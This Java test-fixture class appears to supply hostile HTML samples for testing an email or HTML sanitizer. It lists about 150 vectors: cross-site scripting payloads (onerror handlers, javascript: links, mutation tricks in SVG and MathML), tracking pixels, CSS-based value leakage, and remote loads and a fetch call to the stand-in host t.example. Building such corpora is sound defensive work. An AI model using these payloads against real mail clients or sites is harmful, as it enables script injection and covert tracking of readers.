package app.paloma.testing;

import java.util.List;

/// What senders put into HTML to run something or to learn that it was read. The addresses are all
/// of {@link #HOST}.
public final class HostileHtml {
  public static final String HOST = "t.example";

  public record Vector(String name, String html) {}

  public static final List<Vector> VECTORS =
      List.of(
          new Vector("script", "<script src=//t.example/x.js></script>"),
          new Vector("event handler", "<img src=x onerror=fetch('//t.example')>"),
          new Vector("javascript: link", "<a href=\"java&#10;script:alert(1)\">x</a>"),
          new Vector("data: document", "<a href=data:text/html,x>x</a>"),
          new Vector("picture", "<img src=https://t.example/a.png>"),
          new Vector("picture, other resolutions", "<img srcset='https://t.example/b.png 2x'>"),
          new Vector(
              "picture element",
              "<picture><source srcset=https://t.example/c.png><img src=cid:x></picture>"),
          new Vector("protocol-relative picture", "<img src=//t.example/d.png>"),
          new Vector("UNC path", "<img src='\\\\t.example\\share\\x.png'>"),
          new Vector("file: picture", "<img src=file://t.example/x.png>"),
          new Vector(
              "background attribute", "<table background=https://t.example/e.png><td>x</table>"),
          new Vector(
              "CSS url() in a style attribute",
              "<p style=\"background:url(https://t.example/f.png)\">x"),
          new Vector(
              "CSS url() in a style sheet",
              "<style>p{list-style-image:url(https://t.example/g.png)}</style><p>x"),
          new Vector(
              "CSS with escapes", "<p style=\"background:\\75rl(https://t.example/h.png)\">x"),
          new Vector("CSS @import", "<style>@import 'https://t.example/i.css';</style>x"),
          new Vector(
              "CSS @font-face",
              "<style>@font-face{font-family:x;src:url(https://t.example/j.woff)}</style>x"),
          new Vector(
              "CSS image-set()",
              "<p style=\"background:image-set('https://t.example/k.png' 1x)\">x"),
          new Vector(
              "CSS content", "<style>p:before{content:url(https://t.example/l.png)}</style><p>x"),
          new Vector(
              "CSS cursor, mask, filter",
              "<p style=\"cursor:url(https://t.example/m.cur);mask:url(https://t.example/n.svg);filter:url(https://t.example/o.svg)\">x"),
          new Vector(
              "CSS expression, behavior, -moz-binding",
              "<p style=\"width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)\">x"),
          new Vector("CSS out of place", "<p style=\"position:fixed;top:0;left:0\">x"),
          new Vector("style sheet link", "<link rel=stylesheet href=https://t.example/p.css>"),
          new Vector(
              "prefetch, preconnect, DNS prefetch",
              "<link rel=prefetch href=https://t.example/q><link rel=dns-prefetch"
                  + " href=//t.example>"),
          new Vector("base", "<base href=https://t.example/><img src=r.png>"),
          new Vector(
              "meta refresh", "<meta http-equiv=refresh content='0;url=https://t.example/s'>"),
          new Vector(
              "frame", "<iframe src=https://t.example/t srcdoc='<script>x</script>'></iframe>"),
          new Vector("frame set", "<frameset><frame src=https://t.example/u></frameset>"),
          new Vector(
              "object, embed, applet",
              "<object data=https://t.example/v></object><embed src=https://t.example/w><applet"
                  + " code=https://t.example/x></applet>"),
          new Vector(
              "video and audio",
              "<video src=https://t.example/y poster=https://t.example/z></video><audio"
                  + " src=https://t.example/aa></audio>"),
          new Vector(
              "form",
              "<form action=https://t.example/ab><input name=p><button>Send</button></form>"),
          new Vector("image input", "<input type=image src=https://t.example/ac.png>"),
          new Vector(
              "SVG",
              "<svg onload=alert(1)><image href=https://t.example/ad.png /><use"
                  + " href=https://t.example/ae.svg#x /></svg>"),
          new Vector(
              "SVG as a data: picture",
              "<img src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg><image"
                  + " href=https://t.example/af /></svg>'>"),
          new Vector(
              "MathML",
              "<math href=https://t.example/ag><mtext><img src=x onerror=alert(1)></mtext></math>"),
          new Vector(
              "mutation: style in MathML",
              "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
          new Vector(
              "mutation: noscript",
              "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
          new Vector("mutation: comment", "<!--><img src=x onerror=alert(1)>-->"),
          new Vector(
              "mutation: template", "<template><s><template><s><img src=x onerror=alert(1)>"),
          new Vector("tracking pixel", "<img src=https://t.example/ah.gif width=1 height=1>"),
          new Vector(
              "CSS @import with escapes",
              "<style>@\\69mport"
                  + " 'https://t.example/aj.css';p{background:u\\72l(https://t.example/ak.png)}</style><p>x"),
          new Vector(
              "CSS cross-fade(), border-image, shape-outside",
              "<p style=\"background:cross-fade(url(https://t.example/al.png),url(https://t.example/am.png),50%);border-image:url(https://t.example/an.png);shape-outside:url(https://t.example/ao.png)\">x"),
          new Vector(
              "CSS @namespace",
              "<style>@namespace s url(https://t.example/ap);p{color:red}</style><p>x"),
          new Vector(
              "CSS url() with a comment",
              "<p style=\"background:/**/url(/**/https://t.example/aq.png)\">x"),
          new Vector("CSS style sheet out of a title", "<style></style><title><style>x</title>x"),
          new Vector(
              "subtitles",
              "<video><track src=https://t.example/ar.vtt><source"
                  + " src=https://t.example/as.mp4></video>"),
          new Vector(
              "preloaded pictures",
              "<link rel=preload as=image imagesrcset='https://t.example/at.png 1x'>"),
          new Vector(
              "policy report",
              "<meta http-equiv=Content-Security-Policy content='img-src x; report-uri"
                  + " https://t.example/au'>"),
          new Vector(
              "SVG feImage",
              "<svg><filter><feImage xlink:href=https://t.example/av /></filter></svg>"),
          new Vector("handler with focus", "<a href=# autofocus onfocus=alert(1)>x</a>"),
          new Vector("vbscript: link", "<a href=\"VBscript:msgbox(1)\">x</a>"),
          new Vector("javascript: with controls", "<a href=\"\u0001java\tscript:alert(1)\">x</a>"),
          new Vector("file: link", "<a href=file:///etc/passwd>x</a>"),
          new Vector("UTF-7 script", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
          new Vector(
              "ISO-2022-JP escape in an attribute",
              "<img alt=\"\u001b$B\"><img alt=\"\u001b(B onerror=alert(1) x=\">"),
          new Vector(
              "conditional comment", "<!--[if IE]><img src=https://t.example/aw><![endif]-->x"),
          new Vector("XML processing instruction", "<?xml-stylesheet href=https://t.example/ax?>x"),
          new Vector(
              "mutation: title in SVG",
              "<svg><title><style><!--</style><img src=x onerror=alert(1)>--></title></svg>x"),
          new Vector(
              "mutation: form in MathML",
              "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
          new Vector(
              "mutation: textarea",
              "<textarea><p title=\"</textarea><img src onerror=alert(1)>\">"),
          new Vector("ping", "<a href=https://a.example ping=https://t.example/ai>x</a>"),
          new Vector(
              "CSS -webkit-image-set()",
              "<p style=\"background:-webkit-image-set(url(https://t.example/ba.png) 1x)\">x"),
          new Vector(
              "CSS variables",
              "<style>:root{--x:url(https://t.example/bb.png)}p{background:var(--x)}</style><p>x"),
          new Vector(
              "CSS @keyframes",
              "<style>@keyframes k{from{background:url(https://t.example/bc.png)}to{color:red}}p{animation:k 1s}</style><p>x"),
          new Vector(
              "CSS @page, @counter-style",
              "<style>@page{background:url(https://t.example/bd.png)}@counter-style c{system:cyclic;symbols:url(https://t.example/be.png)}li{list-style:c}</style><ul><li>x</ul>"),
          new Vector(
              "CSS @media and @supports",
              "<style>@media all{@supports (color:red){p{background:url(https://t.example/bf.png)}}}</style><p>x"),
          new Vector(
              "CSS @import inside of @media, with layer",
              "<style>@import url(https://t.example/bg.css) layer(x);@media all{@import 'https://t.example/bh.css';}</style><p>x"),
          new Vector(
              "CSS @import of a data: style sheet",
              "<style>@import 'data:text/css,p{background:url(https://t.example/bi.png)}';</style><p>x"),
          new Vector(
              "CSS @charset and a byte order mark",
              "<style>@charset 'utf-7';\ufeff@import 'https://t.example/bj.css';</style><p>x"),
          new Vector(
              "CSS mask, clip-path, offset-path",
              "<p style=\"-webkit-mask-image:url(https://t.example/bk.svg);clip-path:url(https://t.example/bl.svg#c);offset-path:url(https://t.example/bm.svg#p)\">x"),
          new Vector(
              "CSS list-style, border-image-source, cursor",
              "<ul style=\"list-style:url(https://t.example/bn.png);border-image-source:url(https://t.example/bo.png);cursor:url(https://t.example/bp.cur),auto\"><li>x</ul>"),
          new Vector(
              "CSS url() with escapes inside",
              "<p style=\"background:url(\\68 ttps://t.example/bq.png)\">x"),
          new Vector(
              "CSS url() of entities",
              "<p style=\"background:url(&#104;ttps&#58;//t.example/br.png)\">x"),
          new Vector(
              "CSS url() over lines",
              "<p style=\"background:url(\n'https://t.example/bs.png'\n)\">x"),
          new Vector(
              "CSS broken string",
              "<style>p{content:'x\n;background:url(https://t.example/bt.png)}q{color:red}</style><p>x"),
          new Vector(
              "CSS end tag inside a string",
              "<style>p{content:\"</style><img src=https://t.example/bu.png>\"}</style><p>x"),
          new Vector(
              "CSS comment that never ends",
              "<style>p{color:red}/*</style><p>x<style>*/p{background:url(https://t.example/bv.png)}</style>"),
          new Vector(
              "CSS attribute selectors that tell values",
              "<style>input[value^=a]{background:url(https://t.example/bw.png)}</style><input value=abc>"),
          new Vector(
              "CSS fonts by unicode-range",
              "<style>@font-face{font-family:x;src:local(y),url(https://t.example/bx.woff2);unicode-range:U+41}p{font-family:x}</style><p>A"),
          new Vector(
              "CSS element(), paint(), src()",
              "<p style=\"background:src('https://t.example/by.png');background:element(#a);background:paint(x)\">x"),
          new Vector(
              "CSS position sticky with z-index",
              "<p style=\"position:sticky;z-index:9999;bottom:0;width:100vw;height:100vh\">x"),
          new Vector(
              "style sheet in the body of a table",
              "<table><style>@import 'https://t.example/bz.css';</style><tr><td>x</table>"),
          new Vector(
              "style sheet in SVG",
              "<svg><style>@import 'https://t.example/ca.css';</style></svg>x"),
          new Vector(
              "style sheet of a data: link",
              "<link rel=stylesheet href=\"data:text/css,@import'https://t.example/cb.css'\">x"),
          new Vector(
              "icon, manifest, module",
              "<link rel=icon href=https://t.example/cc.ico><link rel=manifest href=https://t.example/cd.json><link rel=modulepreload href=https://t.example/ce.js>x"),
          new Vector("preconnect", "<link rel=preconnect href=https://t.example/>x"),
          new Vector("application cache", "<html manifest=https://t.example/cf.appcache><body>x"),
          new Vector("background of the body", "<body background=https://t.example/cg.png>x"),
          new Vector(
              "background of cells",
              "<table><tr background=https://t.example/ch.png><td background=https://t.example/ci.png>x</table>"),
          new Vector(
              "lowsrc, dynsrc",
              "<img lowsrc=https://t.example/cj.png dynsrc=https://t.example/ck.avi>"),
          new Vector("image, an old name of img", "<image src=https://t.example/cl.png>"),
          new Vector("background sound", "<bgsound src=https://t.example/cm.wav>x"),
          new Vector(
              "layers of Netscape",
              "<layer src=https://t.example/cn.html></layer><ilayer src=https://t.example/co.html></ilayer>x"),
          new Vector("XML island", "<xml src=https://t.example/cp.xml></xml>x"),
          new Vector(
              "vector shapes of Office",
              "<v:rect><v:fill src=\"https://t.example/cq.png\" type=tile /></v:rect><v:image src=\"https://t.example/cr.png\" />x"),
          new Vector(
              "AMP pictures", "<amp-img src=https://t.example/cs.png width=1 height=1></amp-img>x"),
          new Vector(
              "portal, fenced frame",
              "<portal src=https://t.example/ct></portal><fencedframe src=https://t.example/cu></fencedframe>x"),
          new Vector(
              "picture that waits",
              "<img loading=lazy decoding=async fetchpriority=high src=https://t.example/cv.png>"),
          new Vector(
              "picture with credentials",
              "<img crossorigin=use-credentials src=https://user:pw@t.example/cw.png>"),
          new Vector(
              "picture map",
              "<img usemap=#m src=https://t.example/cx.png><map name=m><area href=javascript:alert(1) coords=0,0,9,9></map>"),
          new Vector("backslashes for slashes", "<img src='https:\\\\t.example\\cy.png'>"),
          new Vector("one slash", "<img src='https:/t.example/cz.png'>"),
          new Vector("scheme with a line end", "<img src='ht\ntps://t.example/da.png'>"),
          new Vector("scheme in capitals", "<IMG SRC=HTTPS://T.EXAMPLE/db.png>"),
          new Vector(
              "entities for the address",
              "<img src='&#x68;&#x74;tps:&sol;&sol;t.example&sol;dc.png'>"),
          new Vector("address without quotes and end", "<img src=https://t.example/dd.png"),
          new Vector("attribute without an end", "<img src=\"https://t.example/de.png"),
          new Vector("two addresses", "<img src=cid:x src=https://t.example/df.png>"),
          new Vector(
              "slashes between attributes", "<img/src=https://t.example/dg.png/onerror=alert(1)>"),
          new Vector(
              "srcset with data: and commas",
              "<img srcset='data:image/png;base64,AA== 1x, https://t.example/dh.png 2x'>"),
          new Vector(
              "blob:, filesystem:, view-source:",
              "<img src=blob:https://t.example/di><img src=filesystem:https://t.example/dj><img src=view-source:https://t.example/dk>"),
          new Vector("ftp: picture", "<img src=ftp://t.example/dl.png>"),
          new Vector("javascript: picture", "<img src=javascript:alert(1)>"),
          new Vector(
              "data: page as picture", "<img src='data:text/html,<script>alert(1)</script>'>"),
          new Vector(
              "data: page in a frame",
              "<iframe src='data:text/html,<img src=https://t.example/dm.png>'></iframe>x"),
          new Vector(
              "data: page in an object",
              "<object data='data:text/html,<img src=https://t.example/dn.png>'>x</object>"),
          new Vector(
              "object that is left open",
              "<object data=https://t.example/do><embed src=https://t.example/dp>"),
          new Vector(
              "parameters of a plug-in",
              "<object classid=clsid:x codebase=https://t.example/dq.cab><param name=movie value=https://t.example/dr.swf></object>x"),
          new Vector(
              "frame with srcdoc of entities",
              "<iframe srcdoc='&lt;img src=https://t.example/ds.png&gt;'></iframe>x"),
          new Vector(
              "handlers of all kinds",
              "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>y</marquee><body onload=alert(1) onpageshow=alert(1)>"),
          new Vector(
              "button with an address of its own",
              "<form><button formaction=https://t.example/dt>x</button></form>"),
          new Vector(
              "form of another form",
              "<form id=f action=https://t.example/du></form><input form=f type=submit>x"),
          new Vector(
              "names that hide properties",
              "<form id=attributes><input name=parentNode><img name=body id=documentElement></form>x"),
          new Vector(
              "meta refresh to javascript:",
              "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>x"),
          new Vector(
              "meta refresh in the body",
              "<p>x</p><meta http-equiv=\"Refresh\" content=\"1; URL='https://t.example/dv'\">"),
          new Vector(
              "meta: cookies, referrer, link",
              "<meta http-equiv=set-cookie content=a=b><meta name=referrer content=unsafe-url><meta http-equiv=link content='<https://t.example/dw>; rel=preload'>x"),
          new Vector(
              "base with a target",
              "<base target=_top href='https://t.example/dx/'><a href=y>x</a>"),
          new Vector("link of entities", "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>"),
          new Vector("link of a data: page", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>"),
          new Vector("link with a space before", "<a href='  javascript:alert(1)'>x</a>"),
          new Vector(
              "link of unknown schemes",
              "<a href='ms-msdt:/id'>x</a><a href='search-ms:query=x'>y</a><a href='intent://x#Intent;end'>z</a>"),
          new Vector(
              "link that opens a picture",
              "<a href='https://a.example/' onmouseover=\"this.style.background='url(https://t.example/dy.png)'\">x</a>"),
          new Vector(
              "SVG script",
              "<svg><script href=https://t.example/dz.js></script><script>alert(1)</script></svg>x"),
          new Vector(
              "SVG animation",
              "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>"),
          new Vector(
              "SVG set",
              "<svg><image><set attributeName=href to=https://t.example/ea.png /></image></svg>x"),
          new Vector(
              "SVG foreignObject",
              "<svg><foreignObject><iframe src=https://t.example/eb></iframe><img src=https://t.example/ec.png></foreignObject></svg>x"),
          new Vector(
              "SVG fill, filter, mask",
              "<svg><rect fill='url(https://t.example/ed.svg#a)' filter='url(https://t.example/ee.svg#b)' mask='url(https://t.example/ef.svg#c)' /></svg>x"),
          new Vector(
              "SVG use of data:",
              "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='https://t.example/eg.png'/></svg>#x\" /></svg>x"),
          new Vector(
              "SVG in a style sheet",
              "<p style=\"background:url('data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22https://t.example/eh.png%22/></svg>')\">x"),
          new Vector(
              "SVG gradient, pattern, textPath",
              "<svg><linearGradient xlink:href=https://t.example/ei.svg#g /><pattern href=https://t.example/ej.svg#p /><text><textPath href=https://t.example/ek.svg#t>x</textPath></text></svg>"),
          new Vector(
              "MathML link",
              "<math><mrow xlink:href=https://t.example/el><mi>x</mi></mrow><maction actiontype=statusline xlink:href=javascript:alert(1)>y</maction></math>z"),
          new Vector(
              "MathML annotation",
              "<math><annotation-xml encoding='text/html'><img src=https://t.example/em.png></annotation-xml></math>x"),
          new Vector(
              "plain text that hides the rest",
              "<p>x</p><plaintext><img src=https://t.example/en.png>"),
          new Vector(
              "xmp, listing, noembed, noframes",
              "<xmp><img src=https://t.example/eo.png></xmp><noembed><img src=https://t.example/ep.png></noembed><noframes><img src=https://t.example/eq.png></noframes>x"),
          new Vector(
              "noscript with a picture",
              "<noscript><img src=https://t.example/er.png></noscript>x"),
          new Vector(
              "template with a shadow",
              "<div><template shadowrootmode=open><img src=https://t.example/es.png></template></div>x"),
          new Vector("CDATA", "<![CDATA[<img src=https://t.example/et.png>]]>x"),
          new Vector(
              "CDATA in SVG", "<svg><![CDATA[><image href=https://t.example/eu.png />]]></svg>x"),
          new Vector(
              "document type with an address",
              "<!DOCTYPE html SYSTEM \"https://t.example/ev.dtd\" [<!ENTITY e SYSTEM \"https://t.example/ew\">]>&e;x"),
          new Vector("comment that ends early", "<!---!><img src=https://t.example/ex.png>-->x"),
          new Vector(
              "comment of IE with Office",
              "<!--[if gte mso 9]><v:background fill=t><v:fill src=https://t.example/ey.png /></v:background><![endif]-->x"),
          new Vector(
              "NUL inside of a tag",
              "<scr\u0000ipt>alert(1)</scr\u0000ipt><img sr\u0000c=https://t.example/ez.png>x"),
          new Vector(
              "control characters in front of an attribute",
              "<img \u000bsrc=https://t.example/fa.png \u000conerror=alert(1)>x"),
          new Vector(
              "mutation: paragraph in SVG",
              "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
          new Vector(
              "mutation: comment in MathML",
              "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"),
          new Vector(
              "mutation: table and form",
              "<form><table><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
          new Vector(
              "mutation: title", "<title>&lt;/title>&lt;img src=1 onerror=alert(1)></title>x"),
          new Vector("mutation: backticks", "<img alt=\"``onerror=alert(1)\">x"),
          new Vector(
              "mutation: deep nesting",
              "<b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><svg><style><img src=x onerror=alert(1)>"),
          new Vector(
              "mutation: select",
              "<select><template><style><!--</select><img src=x onerror=alert(1)>--></style></template></select>x"),
          new Vector(
              "mutation: attribute of entities",
              "<p title='&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;'>x"),
          new Vector(
              "mutation: math in a desc",
              "<svg><desc><math><mi><style><img src=x onerror=alert(1)></style></mi></math></desc></svg>x"),
          new Vector(
              "mutation: annotation in noscript",
              "<noscript><style></noscript><img src=https://t.example/fb.png onerror=alert(1)></style>x"),
          new Vector(
              "custom elements", "<x-y is=z style=behavior:url(https://t.example/fc.htc)>x</x-y>"),
          new Vector(
              "speech, input sources",
              "<img src=x-loader:https://t.example/fd><input src=https://t.example/fe type=image><audio autoplay src=https://t.example/ff.mp3>x"));

  private HostileHtml() {}
}
